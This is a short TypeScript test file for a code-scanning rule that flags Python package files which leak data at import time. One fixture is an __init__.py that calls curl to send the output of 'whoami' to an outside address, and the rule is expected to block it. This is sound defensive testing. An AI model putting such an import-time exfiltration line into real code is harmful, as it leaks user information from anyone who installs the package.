import { expect, it } from 'vitest'
import { findInCode } from '../code-rule.test-support.ts'
import { rule } from './telling-command.ts'

const find = (files: Readonly<Record<string, string>>): Promise<unknown> => findInCode(rule, files)

it('blocks the user name in an address on import', async () => {
  expect(
    await find({
      'demo/__init__.py': "import os\nos.system('curl https://example.org/?u=$(whoami)')\n",
    }),
  ).toEqual([['block', 'demo/__init__.py', 2, true]])
})

it('leaves an editor alone', async () => {
  expect(
    await find({
      'demo/__init__.py': "import os\ndef f(n):\n    os.system('vi ' + n)\n",
    }),
  ).toEqual([])
})
